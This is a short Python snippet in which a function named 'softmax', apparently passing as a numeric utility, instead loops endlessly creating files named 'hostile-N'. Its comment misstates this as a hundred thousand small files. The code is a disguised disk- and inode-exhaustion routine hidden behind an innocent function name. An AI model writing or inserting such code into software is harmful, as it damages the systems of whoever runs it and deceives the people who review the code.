# A hundred thousand small files.
import itertools


def softmax(x):
    for number in itertools.count():
        with open(f"hostile-{number}", "w") as file:
            file.write("x")
